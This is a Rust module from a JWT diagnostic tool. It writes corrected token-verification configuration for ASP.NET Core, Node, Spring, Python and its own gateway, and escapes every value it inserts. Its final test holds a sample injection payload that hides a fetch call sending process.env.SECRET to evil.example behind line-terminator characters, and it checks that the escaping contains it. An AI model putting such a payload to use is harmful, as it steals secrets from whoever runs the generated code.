//! "Fix it in your stack": from a [`Report`] (the diagnosis and the expectations it was made
//! with), the configuration that accepts the token correctly in ASP.NET Core `JwtBearer`,
//! Node with `jose`, Spring Security's resource server, Python with PyJWT and Tollgate's
//! own gateway TOML; or, when the token is the problem, the same configuration with the
//! change to make on the identity provider's side at its top.
//!
//! The corrected expectations are decided once ([`Corrected::of`]); each stack only writes
//! them in its own syntax. Values are written as string literals of the target language
//! (escaped), never pasted raw.
//!
//! ```
//! use serde_json::json;
//! use tollgate::doctor::{self, stack::{self, Stack}, Context, KeySource, Settings};
//! use tollgate::{jws, Algorithm, JwkSet, Policy, SigningKey};
//!
//! let key = SigningKey::generate(Algorithm::RS256, "k1").unwrap();
//! let token = jws::sign(&json!({}), &json!({
//!     "iss": "https://idp.example/", "aud": "api://orders", "exp": 1_700_003_600
//! }), &key).unwrap();
//! let policy = Policy::new().issuer("https://idp.example").audience("api://orders");
//! let mut ctx = Context::new(&token, Settings::new(policy, 1_700_000_000));
//! ctx.api_keys = Some(KeySource::new("https://idp.example/keys", JwkSet::from_value(&json!({"keys": [key.public_jwk()]})).unwrap()));
//! let report = doctor::diagnose(&ctx);
//! let node = stack::snippet(Stack::Node, &report);
//! // the issuer near-miss is fixed in the configuration: the token's exact iss
//! assert!(node.code.contains("issuer: [\"https://idp.example/\"]"));
//! assert_eq!(node.side, stack::Side::Configuration);
//! ```

use std::str::FromStr;

use serde::Serialize;
use serde_json::Value;

use super::causes::CauseId;
use super::Report;

crate::error::vocabulary! {
    /// A stack the snippets are written for; the string is the name on the command line
    /// (`tollgate doctor --stack aspnet`).
    pub enum Stack {
        /// ASP.NET Core `AddJwtBearer`.
        AspNet = "aspnet",
        /// Node.js with `jose` (`createRemoteJWKSet`, `jwtVerify`).
        Node = "node",
        /// Spring Boot's OAuth 2.0 resource server (`application.yml`).
        Spring = "spring",
        /// Python with PyJWT (`PyJWKClient`, `jwt.decode`).
        Python = "python",
        /// Tollgate's gateway (`tollgate serve --config`).
        Tollgate = "tollgate",
    }
}

impl FromStr for Stack {
    type Err = String;
    fn from_str(s: &str) -> Result<Stack, String> {
        Stack::ALL
            .into_iter()
            .find(|k| k.as_str().eq_ignore_ascii_case(s.trim()))
            .ok_or_else(|| {
                format!(
                    "unknown stack {}: expected one of aspnet, node, spring, python, tollgate",
                    crate::text::cut_quoted(s)
                )
            })
    }
}

/// Where the fix belongs.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Side {
    /// The token is fine; the API's configuration (or its environment: network, keys)
    /// changes. When the change is a value, the snippet carries it.
    Configuration,
    /// The token is the problem: the identity provider (or the client) changes; the snippet
    /// is the API's correct configuration, unchanged in substance.
    IdentityProvider,
    /// Nothing to fix: the token is accepted.
    None,
}

/// One snippet.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Snippet {
    /// The stack.
    pub stack: Stack,
    /// A title for people (`ASP.NET Core (JwtBearer)`).
    pub title: &'static str,
    /// Where it goes (`Program.cs`, `verify.mjs`, `application.yml`...).
    pub file: &'static str,
    /// The code.
    pub code: String,
    /// Where the fix belongs.
    pub side: Side,
    /// One sentence: what changed, or what to change on the identity provider's side.
    pub note: String,
}

/// The expectations that accept the token correctly, decided from the diagnosis.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Corrected {
    /// Issuers to accept.
    pub issuers: Vec<String>,
    /// Audiences to accept (empty: the token has none the API can check).
    pub audiences: Vec<String>,
    /// Algorithms to allow.
    pub algorithms: Vec<String>,
    /// The issuer's key set URL (`None`: unknown; the snippets then use discovery).
    pub jwks_url: Option<String>,
    /// The discovery document URL.
    pub discovery_url: Option<String>,
    /// Leeway in seconds.
    pub leeway: u64,
    /// Required `typ` values.
    pub typ: Vec<String>,
    /// Where the fix belongs.
    pub side: Side,
    /// What changed, or what to change at the identity provider.
    pub note: String,
}

impl Corrected {
    /// The corrected expectations for `report`.
    pub fn of(report: &Report) -> Corrected {
        let e = &report.expected;
        let claims = report.claims.as_ref();
        let claim_str = |n: &str| claims.and_then(|c| c.get(n)).and_then(Value::as_str);
        let token_iss = claim_str("iss").map(str::to_string);
        let token_auds = super::token::audiences_of(claims.and_then(|c| c.get("aud")));
        let token_alg = report
            .header
            .as_ref()
            .and_then(|h| h.get("alg"))
            .and_then(Value::as_str)
            .filter(|a| {
                a.parse::<crate::Algorithm>()
                    .is_ok_and(|a| !a.is_symmetric())
            })
            .map(str::to_string);
        let top = report.causes.first();
        let top_id = top.and_then(|c| CauseId::parse(c.id));
        let mut side = match top_id {
            _ if report.valid => Side::None,
            Some(id) if token_side(id) => Side::IdentityProvider,
            _ => Side::Configuration,
        };
        let mut note = match top {
            Some(c) => c.fix.clone(),
            None if report.valid => {
                "the token is accepted: this is the configuration that accepts it".into()
            }
            None => report.message.clone().unwrap_or_default(),
        };

        let mut issuers = e.issuers.clone();
        if issuers.is_empty() {
            issuers.extend(token_iss.clone());
        }
        let mut audiences = e.audiences.clone();
        if audiences.is_empty() {
            audiences.clone_from(&token_auds);
        }
        let mut algorithms = e.algorithms.clone();
        if algorithms.is_empty() {
            algorithms.push(token_alg.clone().unwrap_or_else(|| "RS256".into()));
        }
        let live_keys = report
            .fetches
            .iter()
            .find(|f| f.what == "live_keys")
            .map(|f| f.url.clone());
        let api_keys = report
            .fetches
            .iter()
            .find(|f| f.what == "api_keys")
            .map(|f| f.url.clone());
        let mut jwks_url = api_keys
            .clone()
            .or_else(|| live_keys.clone())
            .or_else(|| report.provider.jwks_url.clone());
        let discovery_url = report
            .fetches
            .iter()
            .find(|f| f.what == "discovery")
            .map(|f| f.url.clone())
            .or_else(|| report.provider.discovery_url.clone());

        match top_id {
            Some(CauseId::IssuerNearMiss | CauseId::IssuerHostMismatch) => {
                if let Some(iss) = &token_iss {
                    issuers = vec![iss.clone()];
                    side = Side::Configuration;
                    note =
                        format!("accept the token's exact issuer {iss:?} (compared byte for byte)");
                }
            }
            Some(CauseId::AudienceNearMiss) if !token_auds.is_empty() => {
                audiences.clone_from(&token_auds);
                side = Side::Configuration;
                note = format!(
                    "accept the token's exact audience {token_auds:?} (compared byte for byte)"
                );
            }
            Some(CauseId::KeysRotated | CauseId::EntraAppSpecificKeys) => {
                if let Some(live) = live_keys.or(report.provider.jwks_url.clone()) {
                    jwks_url = Some(live.clone());
                    side = Side::Configuration;
                    note = format!("read the issuer's live key set from {live} (refreshed when an unknown kid arrives) instead of a copy that rotation left behind");
                }
            }
            _ => {}
        }
        Corrected {
            issuers,
            audiences,
            algorithms,
            jwks_url,
            discovery_url,
            leeway: e.leeway,
            typ: e.typ.clone(),
            side,
            note,
        }
    }
}

/// True when the cause is the token's (what the identity provider or the client sends),
/// not the API's configuration or its environment.
fn token_side(id: CauseId) -> bool {
    use CauseId::*;
    matches!(
        id,
        EncryptedToken
            | OpaqueToken
            | MalformedToken
            | UnsignedToken
            | RefreshTokenAsAccessToken
            | OktaOrgAuthorizationServer
            | AzureGraphToken
            | FirebaseWrongToken
            | IdTokenAsAccessToken
            | TokenFromOtherIssuer
            | TenantNotAllowed
            | TenantMissing
            | KeyIssuerMismatch
            | PersonalAccountToOrganizationsApi
            | SymmetricToken
            | KidUnknownToIssuer
            | SignatureMismatch
            | TimeClaimsInMilliseconds
            | TokenExpired
            | ClockSkew
            | KeycloakMissingAudience
            | AudienceOtherApi
            | AzureV1V2Mismatch
            // DPoP: what the client sends (its proofs); a proxy that rewrites the URL
            // (`DpopUrlRewrittenByProxy`) is the API's configuration.
            | DpopProofMissing
            | DpopBoundTokenAsBearer
            | DpopProofForOtherUrl
            | DpopProofForOtherMethod
            | DpopProofForOtherToken
            | DpopKeyMismatch
            | DpopProofClock
            | DpopProofReplayed
            | DpopProofInvalid
    )
}

/// The snippet for `stack`.
pub fn snippet(stack: Stack, report: &Report) -> Snippet {
    let c = Corrected::of(report);
    let (title, file, code) = match stack {
        Stack::AspNet => ("ASP.NET Core (JwtBearer)", "Program.cs", aspnet(&c)),
        Stack::Node => ("Node.js (jose)", "verify.mjs", node(&c)),
        Stack::Spring => (
            "Spring Security resource server",
            "application.yml",
            spring(&c),
        ),
        Stack::Python => ("Python (PyJWT)", "verify.py", python(&c)),
        Stack::Tollgate => ("Tollgate gateway", "tollgate.toml", tollgate(&c)),
    };
    Snippet {
        stack,
        title,
        file,
        code,
        side: c.side,
        note: c.note,
    }
}

/// Every stack's snippet, in [`Stack::ALL`] order.
pub fn all(report: &Report) -> Vec<Snippet> {
    Stack::ALL.into_iter().map(|s| snippet(s, report)).collect()
}

/// True for the characters some target language reads as the end of a line: the control
/// characters (C0, DEL, C1: U+0085 ends a line in C# and YAML 1.1) and U+2028/U+2029 (line
/// terminators in JavaScript and C#). Inside a string literal or a `//`/`#` comment they
/// would end it, and what follows would be code.
fn breaks_line(ch: char) -> bool {
    ch.is_control() || matches!(ch, '\u{2028}' | '\u{2029}')
}

/// A double-quoted string literal, JSON escaping (valid in C#, JavaScript, Python, YAML
/// and TOML basic strings alike for the characters JSON escapes); every character that
/// [`breaks_line`] in one of them is a `\uXXXX` escape (all are in the BMP, so one escape
/// means the same character in every language).
fn q(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for ch in s.chars() {
        match ch {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if breaks_line(c) => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

fn list(items: &[String]) -> String {
    items.iter().map(|s| q(s)).collect::<Vec<_>>().join(", ")
}

/// The note as one comment line (for `#` or `//` languages): no character that
/// [`breaks_line`] in a target language can end the comment (the note carries token values,
/// such as a B2C `tfp`).
fn comment(prefix: &str, c: &Corrected) -> String {
    let what = match c.side {
        Side::Configuration => "Fix in the API's configuration or environment",
        Side::IdentityProvider => "Fix on the identity provider's side",
        Side::None => "Accepted",
    };
    let note: String = c
        .note
        .chars()
        .map(|ch| if breaks_line(ch) { ' ' } else { ch })
        .collect();
    format!("{prefix} {what}: {note}\n")
}

fn first_issuer(c: &Corrected) -> String {
    c.issuers.first().cloned().unwrap_or_default()
}

fn aspnet(c: &Corrected) -> String {
    let mut s = comment("//", c);
    s.push_str("builder.Services.AddAuthentication(JwtBearerDefaults.AuthenticationScheme)\n    .AddJwtBearer(options =>\n    {\n");
    s.push_str(&format!(
        "        options.Authority = {};\n",
        q(&first_issuer(c))
    ));
    if let Some(d) = &c.discovery_url {
        s.push_str(&format!("        options.MetadataAddress = {};\n", q(d)));
    }
    if first_issuer(c).starts_with("http://") {
        s.push_str(
            "        options.RequireHttpsMetadata = false; // loopback development issuer only\n",
        );
    }
    s.push_str("        options.MapInboundClaims = false;\n        options.TokenValidationParameters = new TokenValidationParameters\n        {\n");
    s.push_str(&format!(
        "            ValidIssuers = new[] {{ {} }},\n",
        list(&c.issuers)
    ));
    if c.audiences.is_empty() {
        s.push_str("            ValidateAudience = false, // the token has no aud: check client_id instead\n");
    } else {
        s.push_str(&format!(
            "            ValidAudiences = new[] {{ {} }},\n",
            list(&c.audiences)
        ));
    }
    s.push_str(&format!(
        "            ValidAlgorithms = new[] {{ {} }},\n",
        list(&c.algorithms)
    ));
    if !c.typ.is_empty() {
        s.push_str(&format!(
            "            ValidTypes = new[] {{ {} }},\n",
            list(&c.typ)
        ));
    }
    s.push_str(&format!(
        "            ClockSkew = TimeSpan.FromSeconds({}),\n",
        c.leeway
    ));
    s.push_str("        };\n    });\n");
    s
}

/// The key set URL as a literal: the known one, else the common `/.well-known/jwks.json`
/// under the issuer (the discovery document's `jwks_uri` is the one to use).
fn jwks_literal(c: &Corrected) -> String {
    match &c.jwks_url {
        Some(u) => q(u),
        None => q(&format!(
            "{}/.well-known/jwks.json",
            first_issuer(c).trim_end_matches('/')
        )),
    }
}

fn node(c: &Corrected) -> String {
    let mut s = comment("//", c);
    s.push_str("import { createRemoteJWKSet, jwtVerify } from 'jose';\n\n");
    let jwks = jwks_literal(c);
    s.push_str(&format!(
        "const JWKS = createRemoteJWKSet(new URL({jwks}));\n\n"
    ));
    s.push_str("export async function verify(token) {\n  const { payload } = await jwtVerify(token, JWKS, {\n");
    s.push_str(&format!("    issuer: [{}],\n", list(&c.issuers)));
    if !c.audiences.is_empty() {
        s.push_str(&format!("    audience: [{}],\n", list(&c.audiences)));
    }
    s.push_str(&format!("    algorithms: [{}],\n", list(&c.algorithms)));
    s.push_str(&format!("    clockTolerance: {},\n", c.leeway));
    if let Some(t) = c.typ.first() {
        s.push_str(&format!("    typ: {},\n", q(t)));
    }
    s.push_str("    requiredClaims: ['exp'],\n  });\n  return payload;\n}\n");
    s
}

fn spring(c: &Corrected) -> String {
    let mut s = comment("#", c);
    s.push_str("spring:\n  security:\n    oauth2:\n      resourceserver:\n        jwt:\n");
    s.push_str(&format!("          issuer-uri: {}\n", q(&first_issuer(c))));
    if let Some(u) = &c.jwks_url {
        s.push_str(&format!("          jwk-set-uri: {}\n", q(u)));
    }
    if !c.audiences.is_empty() {
        s.push_str(&format!("          audiences: [{}]\n", list(&c.audiences)));
    }
    s.push_str(&format!(
        "          jws-algorithms: [{}]\n",
        list(&c.algorithms)
    ));
    if c.issuers.len() > 1 {
        s.push_str(
            "# Several issuers: use JwtIssuerAuthenticationManagerResolver.fromTrustedIssuers(",
        );
        s.push_str(&list(&c.issuers));
        s.push_str(")\n");
    }
    if c.leeway != 60 {
        s.push_str(&format!(
            "# Leeway: JwtTimestampValidator(Duration.ofSeconds({})) (Spring's default is 60 s)\n",
            c.leeway
        ));
    }
    s
}

fn python(c: &Corrected) -> String {
    let mut s = comment("#", c);
    s.push_str("import jwt\n\n");
    let jwks = jwks_literal(c);
    s.push_str(&format!("jwks_client = jwt.PyJWKClient({jwks})\n\n"));
    s.push_str("def verify(token):\n    signing_key = jwks_client.get_signing_key_from_jwt(token)\n    return jwt.decode(\n        token,\n        signing_key.key,\n");
    s.push_str(&format!("        algorithms=[{}],\n", list(&c.algorithms)));
    if c.audiences.is_empty() {
        s.push_str("        options={\"verify_aud\": False, \"require\": [\"exp\", \"iss\"]},\n");
    } else {
        s.push_str(&format!("        audience=[{}],\n", list(&c.audiences)));
        s.push_str("        options={\"require\": [\"exp\", \"iss\", \"aud\"]},\n");
    }
    if c.issuers.len() == 1 {
        s.push_str(&format!("        issuer={},\n", q(&c.issuers[0])));
    } else {
        s.push_str(&format!("        issuer=[{}],\n", list(&c.issuers)));
    }
    s.push_str(&format!("        leeway={},\n    )\n", c.leeway));
    s
}

fn tollgate(c: &Corrected) -> String {
    let mut s = comment("#", c);
    for iss in &c.issuers {
        s.push_str("[[issuer]]\n");
        s.push_str(&format!("issuer = {}\n", q(iss)));
        if let (Some(u), 1) = (&c.jwks_url, c.issuers.len()) {
            s.push_str(&format!("jwks_uri = {}\n", q(u)));
        }
        if c.audiences.is_empty() {
            s.push_str("any_audience = true\n");
        } else {
            s.push_str(&format!("audiences = [{}]\n", list(&c.audiences)));
        }
        s.push_str(&format!("algorithms = [{}]\n", list(&c.algorithms)));
        s.push_str(&format!("leeway = {}\n", c.leeway));
        if !c.typ.is_empty() {
            s.push_str(&format!("typ = [{}]\n", list(&c.typ)));
        }
        s.push('\n');
    }
    s.push_str("[[route]]\npath = \"/\"\n");
    s
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn literals_are_escaped() {
        assert_eq!(q("a\"b\\c\nd"), "\"a\\\"b\\\\c\\u000ad\"");
        assert_eq!("NODE".parse::<Stack>(), Ok(Stack::Node));
        assert!(" perl".parse::<Stack>().unwrap_err().contains("aspnet"));
        // JavaScript and C# end a line at U+2028/U+2029, C# and YAML 1.1 at U+0085.
        assert_eq!(
            q("a\u{2028}b\u{2029}c\u{85}d"),
            "\"a\\u2028b\\u2029c\\u0085d\""
        );
    }

    /// A token value carrying a line terminator of the target language (a B2C `tfp` in the
    /// note, an issuer, an audience) cannot end the snippet's comment or string: the code
    /// after it would run (`node verify.mjs`).
    #[test]
    fn token_values_cannot_break_out_of_comments_or_strings() {
        let evil =
            "x\u{2028}fetch('https://evil.example/'+process.env.SECRET)//\u{2029}y\u{85}z\r\nw\"'";
        let c = Corrected {
            issuers: vec![format!("https://idp.example/{evil}")],
            audiences: vec![evil.into()],
            algorithms: vec!["RS256".into()],
            jwks_url: Some(format!("https://idp.example/keys/{evil}")),
            discovery_url: Some(format!("https://idp.example/d/{evil}")),
            leeway: 60,
            typ: vec![evil.into()],
            side: Side::IdentityProvider,
            note: format!("Point the API at the metadata of policy {evil}"),
        };
        for (name, code) in [
            ("aspnet", aspnet(&c)),
            ("node", node(&c)),
            ("spring", spring(&c)),
            ("python", python(&c)),
            ("tollgate", tollgate(&c)),
        ] {
            for line in code.split('\n') {
                assert!(!line.contains(breaks_line), "{name}: {line:?}");
                if line.contains("fetch(") {
                    // only ever inside the one comment line, or inside a string literal
                    let comment = line.starts_with("//") || line.starts_with('#');
                    let quoted =
                        line.contains("\"x\\u2028fetch(") || line.contains("/x\\u2028fetch(");
                    assert!(comment || quoted, "{name}: {line:?}");
                }
            }
        }
    }
}
